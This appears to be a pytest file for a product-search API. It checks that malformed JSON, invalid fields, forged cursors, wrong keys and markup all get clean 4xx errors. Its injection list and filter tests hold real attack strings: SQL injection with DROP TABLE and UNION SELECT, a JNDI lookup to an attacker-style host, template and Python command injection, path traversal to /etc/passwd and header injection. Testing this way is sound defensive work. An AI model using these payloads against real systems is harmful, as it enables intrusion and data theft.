"""Whatever is sent, the answer is a problem that says what is wrong, and never a 5xx."""

from __future__ import annotations

from urllib.parse import quote

import httpx
import pytest
from tests.serve.serving import MARKUP, Served, code_of, draw

from vitrine.serve.cursors import cursor_for
from vitrine.serve.questions import DEEPEST_HIT, SearchQuestion
from vitrine.serve.searching import _mark  # pyright: ignore[reportPrivateUsage]

JSON = {"Content-Type": "application/json"}

INJECTIONS = (
    "' OR 1=1 --",
    "'; DROP TABLE products; --",
    '" OR ""="',
    "women') UNION SELECT sql FROM sqlite_master --",
    "%' AND 1=(SELECT COUNT(*) FROM api_keys) --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "__import__('os').system('id')",
    "../../etc/passwd",
    "a\r\nX-Injected: 1",
    "🧥" * 200,
    "\u202egnp.exe",
)


def post(ask: Served, body: bytes | str, path: str = "/v1/search") -> httpx.Response:
    return ask("POST", path, content=body, headers=JSON)


@pytest.mark.parametrize(
    ("body", "complaint"),
    [
        ("", "Expecting value"),
        ("{", "Expecting property name"),
        ("[]", "must be an object"),
        ("null", "must be an object"),
        (b'{"text": "\xff"}', "not UTF-8 at byte 10"),
        ('{"text": "a", "text": "b"}', "names a field twice"),
        ('{"text": "\\ud800"}', "half of a surrogate pair"),
        ('{"text": "a\\u0000b"}', "NUL"),
        ('{"where": {"price": {"lte": NaN}}}', "NaN is no number"),
        ('{"crop": [NaN, 0, 1, 1]}', "NaN is no number"),
        ('{"where": {"price": {"lte": -Infinity}}}', "-Infinity is no number"),
        ('{"where": {"price": {"lte": 1e999}}}', "1e999 is beyond reason"),
        ('{"where": {"price": {"lte": ' + "9" * 5000 + "}}}", "beyond reason"),
        ("[" * 100_000, "nested deeper than 32"),
        ('{"where": ' * 40 + "{}" + "}" * 40, "nested deeper than 32"),
        ('{"like": ' + "[" * 50_000 + "]" * 50_000 + "}", "nested deeper than 32"),
    ],
    ids=lambda value: str(value)[:24] if isinstance(value, str) else "bytes",
)
def test_json_that_is_none(ask: Served, body: bytes | str, complaint: str) -> None:
    if body == "":
        body = " "
    response = post(ask, body)
    assert (response.status_code, code_of(response)) == (400, "malformed_json")
    assert complaint in response.json()["detail"]


@pytest.mark.parametrize(
    ("question", "field"),
    [
        ({"text": "x", "limit": 3}, "limit"),
        ({"text": "x", "k": 10**9}, "k"),
        ({"text": "x", "k": 0}, "k"),
        ({"text": "x", "k": "many"}, "k"),
        ({"text": 7}, "text"),
        ({"text": "x" * 501}, "text"),
        ({"like": ["p1"] * 21}, "like"),
        ({"like": [""]}, "like.0"),
        ({"like": "p1"}, "like"),
        ({"text": "x", "crop": [0, 0, 1]}, "crop"),
        ({"text": "x", "crop": [0, 0, 2, 1]}, "crop.2"),
        ({"text": "x", "crop": ["NaN", 0, 1, 1]}, "crop.0"),
        ({"text": "x", "sort": "cheapest"}, "sort"),
        ({"text": "x", "group_by": "colour"}, "group_by"),
        ({"text": "x", "min_score": 1.5}, "min_score"),
        ({"text": "x", "facets": ["a"] * 21}, "facets"),
        ({"like": ["p1"], "where": 7}, "where.dict[str,any]"),
    ],
)
def test_fields_that_do_not_fit_are_named(
    ask: Served, question: dict[str, object], field: str
) -> None:
    response = ask.search(**question)
    assert (response.status_code, code_of(response)) == (422, "invalid")
    assert field in [error["field"] for error in response.json()["errors"]]


@pytest.mark.parametrize(
    ("where", "complaint"),
    [
        ({"colur": "red"}, "Did you mean 'colour'?"),
        ({"price": {"lte": "cheap"}}, "finite number"),
        ({"price": {"lte": True}}, "finite number"),
        ({"gender": {"like": "w%"}}, "no operator is called 'like'"),
        ({"gender": {"$ne": "women"}}, "operator"),
        ({"not": []}, "a filter is an object"),
        ({"and": {"a": 1}}, "takes a list"),
        ("price<<50", "compared with one number"),
        ("gender=women;DROP TABLE products", "cannot read the filter"),
        ('{"gender": ', "not valid JSON"),
    ],
)
def test_filters_that_do_not_read(ask: Served, where: object, complaint: str) -> None:
    response = ask.search(like=["p1"], where=where)
    assert (response.status_code, code_of(response)) == (422, "query_invalid")
    assert complaint in response.json()["detail"]


def test_a_filter_is_never_more_than_a_filter(ask: Served) -> None:
    for text in INJECTIONS:
        as_value = ask.search(like=["p1"], where={"gender": text, "brand": [text]})
        assert (as_value.status_code, as_value.json()["hits"]) == (200, [])
        as_name = ask.search(like=["p1"], where={text: "x"})
        assert code_of(as_name) == "query_invalid"
        assert "x-injected" not in as_name.headers
        as_words = ask.search(text=text)
        assert as_words.status_code in (200, 422)
        as_id = ask("GET", "/v1/products/p1/similar", params={"where": f"gender={text}"})
        assert as_id.status_code in (200, 422)
        assert code_of(ask.search(like=[text])) == "product_not_found"
    assert len(ask.search(like=["p0"], k=100).json()["hits"]) == 7


@pytest.mark.parametrize(
    ("question", "complaint"),
    [
        ({"like": ["p1"], "crop": [0, 0, 1, 1]}, "crop goes with one photo"),
        ({"like": ["p1"], "facets": ["colur"]}, "no facet is called 'colur'"),
        ({"text": "x", "but": "red"}, "changes a photo or a product"),
        ({"dislike": ["p1"]}, "nothing to search by"),
        ({"like": ["p1"], "sort": "newest", "diversity": 0.5}, "leave one of them out"),
    ],
)
def test_searches_that_make_no_sense(
    ask: Served, question: dict[str, object], complaint: str
) -> None:
    response = ask.search(**question)
    assert (response.status_code, code_of(response)) == (422, "query_invalid")
    assert complaint in response.json()["detail"]


def test_a_crop_that_holds_nothing(ask: Served) -> None:
    question = {"query": '{"crop": [0.5, 0, 0.5, 1]}'}
    response = ask("POST", "/v1/search", files={"photo": draw(1)}, data=question)
    assert "holds nothing" in response.json()["detail"]


@pytest.mark.parametrize(
    ("query", "status", "code"),
    [
        ('{"crop": [NaN, 0, 1, 1]}', 400, "malformed_json"),
        ('{"crop": [0, 0, Infinity, 1]}', 400, "malformed_json"),
        ('{"crop": ["nan", 0, 1, 1]}', 422, "invalid"),
        ('{"crop": [0, 0, -1, 1]}', 422, "invalid"),
        ('{"crop": [0.9, 0, 0.1, 1]}', 422, "query_invalid"),
        ("[" * 100_000, 400, "malformed_json"),
        ('{"k": 1000000000}', 422, "invalid"),
        ("red", 400, "malformed_json"),
    ],
    ids=lambda value: str(value)[:24],
)
def test_what_is_said_beside_a_photo_is_read_as_strictly(
    ask: Served, query: str, status: int, code: str
) -> None:
    response = ask("POST", "/v1/search", files={"photo": draw(1)}, data={"query": query})
    assert (response.status_code, code_of(response)) == (status, code)


@pytest.mark.parametrize("cursor", ["x", "AAAA", "A" * 24, "é", "'; --", "====", "A" * 200])
def test_a_forged_cursor(ask: Served, cursor: str) -> None:
    response = ask.search(like=["p1"], cursor=cursor)
    assert (response.status_code, code_of(response)) == (400, "cursor_invalid")


def test_a_cursor_of_another_search(ask: Served) -> None:
    cursor = ask.search(like=["p1"], k=2).json()["next_cursor"]
    assert ask.search(like=["p1"], k=2, cursor=cursor).status_code == 200
    for other in ({"like": ["p2"], "k": 2}, {"like": ["p1"], "k": 3}):
        assert code_of(ask.search(**other, cursor=cursor)) == "cursor_invalid"
    moved = ("B" if cursor[0] == "A" else "A") + cursor[1:]
    assert code_of(ask.search(like=["p1"], k=2, cursor=moved)) == "cursor_invalid"


def test_a_cursor_that_somebody_made_himself(ask: Served) -> None:
    mark = _mark(SearchQuestion.model_validate({"like": ["p1"]}), b"")
    assert ask.search(like=["p1"], cursor=cursor_for(1, mark)).status_code == 200
    for offset in (DEEPEST_HIT, 2**32 - 1):
        response = ask.search(like=["p1"], cursor=cursor_for(offset, mark))
        assert (response.status_code, code_of(response)) == (422, "query_invalid")
        assert "only the first 1000 hits" in response.json()["detail"]


def test_addresses_that_do_not_fit(ask: Served) -> None:
    for asked in ({"k": "x"}, {"k": "1000000000"}, {"z": "1"}, {"where": "x" * 2001}):
        assert code_of(ask("GET", "/v1/products/p1/similar", params=asked)) == "invalid"
    for path in ("/v1/products/%00", "/v1/products/%ff", "/v1/products/" + "x" * 5000):
        assert code_of(ask("GET", path)) == "product_not_found"


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", "/v1/search"),
        ("POST", "/v1/tags"),
        ("GET", "/v1/products/p1"),
        ("GET", "/v1/products/p1/similar"),
        ("GET", "/v1/products/p1/photos/0"),
        ("PUT", "/v1/products:batch"),
        ("DELETE", "/v1/products/p1"),
    ],
)
def test_a_wrong_key_opens_nothing(ask: Served, method: str, path: str) -> None:
    key = "vitrine_admin_0123456789ab_" + "A" * 43
    for headers in ({"Authorization": f"Bearer {key}"}, {"X-API-Key": key}):
        response = ask(method, path, headers=headers)
        assert (response.status_code, code_of(response)) == (401, "key_unknown")
        assert key not in response.text
    assert ask("GET", "/v1/products/p1").status_code == 200


def test_html_is_never_served_as_html(ask: Served) -> None:
    found = ask.search(text="blue dress", k=100)
    assert f"Blue dress {MARKUP}" in [hit["product"]["title"] for hit in found.json()["hits"]]
    told = [
        ask("GET", f"/v1/products/{quote(MARKUP, safe='')}", headers={"Accept": "text/html"}),
        ask.search(like=["p1"], where={MARKUP: "x"}),
        ask.search(like=[MARKUP]),
        ask("GET", "/v1/products/p1/similar", params={"sort": MARKUP}),
    ]
    assert [response.status_code for response in told] == [404, 422, 404, 422]
    assert [code_of(each) for each in told[:2]] == ["product_not_found", "query_invalid"]
    assert [code_of(each) for each in told[2:]] == ["product_not_found", "invalid"]
    for response in (found, *told):
        assert response.headers["content-type"].endswith("json")
        assert response.headers["x-content-type-options"] == "nosniff"
